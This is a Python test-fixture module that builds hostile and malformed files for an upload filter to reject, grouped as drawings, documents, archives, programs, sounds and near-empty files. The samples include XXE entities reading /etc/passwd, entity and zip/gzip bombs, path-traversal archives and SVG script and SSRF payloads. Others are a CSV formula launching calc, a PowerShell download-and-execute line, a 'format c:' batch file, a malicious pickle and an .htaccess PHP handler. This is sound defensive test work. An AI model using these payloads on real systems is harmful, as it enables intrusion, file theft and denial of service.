"""Files of kinds that nobody asks for, by whatever name they come: none is even opened."""

import bz2
import gzip
import io
import lzma
import tarfile
import zlib
from zipfile import ZIP_DEFLATED, ZipFile

from PIL import Image

from builders.files import make_jpeg, make_pdf, make_png
from builders.hostile.payloads import ANY, EICAR, HTML, MARK, PHP

Cases = dict[str, tuple[str, bytes]]
SVG = b'<svg xmlns="http://www.w3.org/2000/svg">%b</svg>'
XXE = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>%b'
LAUGHS = b"".join(b'<!ENTITY l%d "%b">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def archive(**entries):
    """A ZIP; underscores in a name stand for slashes."""
    target = io.BytesIO()
    with ZipFile(target, "w", ZIP_DEFLATED) as made:
        for name, data in entries.items():
            made.writestr(name.replace("__", "/"), data)
    return target.getvalue()


def tar():
    target = io.BytesIO()
    with tarfile.open(fileobj=target, mode="w") as made:
        made.addfile(tarfile.TarInfo("../../etc/cron.d/x"), io.BytesIO())
    return target.getvalue()


def drawn(kind, **options):
    target = io.BytesIO()
    image = Image.new("RGB", (60, 40), "teal")
    image.save(target, kind, **options)
    return target.getvalue()


def drawings() -> dict[str, bytes]:
    """Pictures that are programs, and formats with a history of holes."""
    script = b"<script>alert('rakeen-canary')</script>"
    return {
        "svg": SVG % b"<rect/>",
        "svg with a script": SVG % script,
        "svg with a page": SVG % (b"<foreignObject>" + HTML + b"</foreignObject>"),
        "svg that loads": SVG % b'<image href="http://169.254.169.254/"/>',
        "svg on loading": SVG.replace(b"xmlns", b"onload='alert(1)' xmlns") % b"",
        "svg of an entity": XXE % (SVG % b"&x;"),
        "svg in a gzip": gzip.compress(SVG % script),
        "gif": drawn("GIF"),
        "gif with a script": b"GIF89a/*" + bytes(20) + b"*/=1;alert('rakeen-canary')",
        "gif with php": drawn("GIF", comment=PHP),
        "gif and archive": drawn("GIF") + archive(a=MARK),
        "gif of endless frames": b"GIF89a\xff\xff\xff\xff\x80\0\0" + b"\x2c" * 4000,
        "webp": drawn("WEBP"),
        "bmp": drawn("BMP"),
        "bmp of a script": b"BM/*\0\0" + b"*/alert('rakeen-canary')",
        "tiff": drawn("TIFF"),
        "ico": drawn("ICO"),
        "jpeg 2000": drawn("JPEG2000"),
        "avif": b"\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf" + bytes(100),
        "jpeg xl": b"\xff\x0a" + bytes(100),
        "photoshop": b"8BPS\0\x01" + bytes(100),
        "postscript": b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n",
        "vector of windows": b"\xd7\xcd\xc6\x9a" + bytes(100),
        "raw of a camera": b"II*\0\x10\0\0\0CR\x02\0" + bytes(100),
        "medical": bytes(128) + b"DICM" + MARK,
        "farbfeld": b"farbfeld" + bytes(16),
    }


def documents() -> dict[str, bytes]:
    """What people write in, with what has been hidden in it."""
    types = f'<Types><Override ContentType="{WORD}" PartName="/word/document.xml"/></Types>'
    office = {"[Content_Types].xml": types, "word__document.xml": "<w:document/>"}
    return {
        "docx": archive(**office),
        "docx with macros": archive(**office, word__vbaProject_bin=MARK),
        "xlsx": archive(**{"[Content_Types].xml": types}, xl__workbook_xml="<workbook/>"),
        "odt": archive(mimetype="application/vnd.oasis.opendocument.text", Basic__x=MARK),
        "epub": archive(mimetype="application/epub+zip"),
        "old word": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + MARK,
        "rtf": rb"{\rtf1{\object\objocx{\*\objdata 0105}}}",
        "page": HTML + b"<p>",
        "page after room": b"\n \t" * 300 + HTML,
        "page of sixteen bits": HTML.decode().encode("utf-16"),
        "page behind a mark": b"\xef\xbb\xbf" + HTML,
        "page in a mail": b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + HTML,
        "xhtml": b'<html xmlns="http://www.w3.org/1999/xhtml"><script/></html>',
        "xml with an entity": XXE % b"<a>&x;</a>",
        "xml of laughs": b"<!DOCTYPE a [" + LAUGHS + b"]><a>&l9;</a>",
        "xslt": b"<xsl:stylesheet><msxsl:script>rakeen-canary</msxsl:script></xsl:stylesheet>",
        "table with a formula": b"name,=cmd|' /C calc'!A0\n",
        "calendar": b"BEGIN:VCALENDAR\nATTACH:file:///etc/passwd\nEND:VCALENDAR",
        "json": b'{"__proto__": {"admin": true}}',
        "mail": b"From: a@example.org\nContent-Type: application/x-msdownload\n\n" + MARK,
        "forms data": b"%FDF-1.2\n1 0 obj<</FDF<</F(x.pdf)/JavaScript 2 0 R>>>>endobj",
        "text": MARK,
    }


def archives() -> dict[str, bytes]:
    inner = archive(zeros=bytes(10_000_000))
    return {
        "zip": archive(a=MARK),
        "zip that climbs": archive(**{"..__..__etc__passwd": MARK}),
        "zip bomb": inner,
        "zip in a zip": archive(**{f"{n}.zip": inner for n in range(5)}),
        "zip of a jpeg": archive(**{"photo.jpg": make_jpeg()}),
        "jar": archive(**{"META-INF__MANIFEST.MF": "Main-Class: x"}),
        "apk": archive(**{"AndroidManifest.xml": MARK, "classes.dex": b"dex\n035"}),
        "half a zip": archive(a=MARK)[:40],
        "tar": tar(),
        "gzip bomb": gzip.compress(bytes(10_000_000)),
        "bzip": bz2.compress(bytes(1_000_000)),
        "xz": lzma.compress(bytes(1_000_000)),
        "zlib": zlib.compress(bytes(1_000_000)),
        "seven zip": b"7z\xbc\xaf\x27\x1c\0\4" + bytes(40),
        "rar": b"Rar!\x1a\x07\x01\0" + bytes(40),
        "cabinet": b"MSCF" + bytes(40),
        "disk": bytes(0x8001) + b"CD001\x01",
        "package": b"!<arch>\ndebian-binary" + bytes(40),
    }


def programs() -> dict[str, bytes]:
    return {
        **ANY,
        "elf": b"\x7fELF\x02\x01\x01" + bytes(60),
        "mach-o": b"\xcf\xfa\xed\xfe" + bytes(60),
        "java": b"\xca\xfe\xba\xbe\0\0\0\x34",
        "wasm": b"\0asm\x01\0\0\0",
        "python": b"import os; os.system('id')\n",
        "javascript": b"alert('rakeen-canary')",
        "powershell": b"IEX (New-Object Net.WebClient).DownloadString('http://x')",
        "batch": b"@echo off\r\nformat c:\r\n",
        "shortcut": b"L\0\0\0\x01\x14\x02\0" + bytes(60),
        "registry": b"Windows Registry Editor Version 5.00\r\n",
        "visual basic": b'CreateObject("WScript.Shell").Run "calc"',
        "help file": b"ITSF\x03\0\0\0" + bytes(60),
        "pickle": b"cos\nsystem\n(S'id'\ntR.",
        "database": b"SQLite format 3\0" + bytes(84),
        "server settings": b"AddType application/x-httpd-php .jpg\n",
        "virus in an archive": archive(eicar=EICAR),
    }


def sounds() -> dict[str, bytes]:
    return {
        "film": b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + bytes(60),
        "film of a telephone": b"\0\0\0\x14ftypqt  \0\0\0\0qt  " + bytes(60),
        "web film": b"\x1aE\xdf\xa3" + bytes(60),
        "song": b"ID3\x04\0\0\0\0\0\0" + MARK,
        "wave": b"RIFF\x24\0\0\0WAVEfmt " + bytes(60),
        "ogg": b"OggS" + bytes(60),
        "flash": b"FWS\x09" + bytes(60),
        "font": b"\0\x01\0\0\0\x0c" + bytes(60),
        "web font": b"wOF2" + bytes(60),
    }


def nothings() -> dict[str, bytes]:
    """Hardly anything, and what stands one sign away from a kind that is taken."""
    return {
        "one byte": b"x",
        "nothing but zeros": bytes(5000),
        "nothing but ones": b"\xff" * 5000,
        "room": b" " * 5000,
        "two bytes of a jpeg": b"\xff\xd8",
        "three bytes of a png": b"\x89PN",
        "four bytes of a pdf": b"%PD-",
        "a jpeg after a line": b"\n" + make_jpeg(),
        "a png after a mark": b"\xef\xbb\xbf" + make_png(),
        "a pdf after a page": HTML + make_pdf(),
        "a pdf after a thousand bytes": bytes(1000) + make_pdf(),
        "a jpeg in base64": b"data:image/jpeg;base64,/9j/4AAQSkZJRg==",
        "a jpeg the wrong way round": make_jpeg()[::-1],
        "a png with small letters": make_png().replace(b"PNG", b"png", 1),
    }


def foreign() -> Cases:
    """The whole family."""
    families = {
        "drawing": drawings(),
        "document": documents(),
        "archive": archives(),
        "program": programs(),
        "sound": sounds(),
        "nothing": nothings(),
    }
    return {
        f"{family}: {name}": ("wrong_kind", data)
        for family, made in families.items()
        for name, data in made.items()
    }
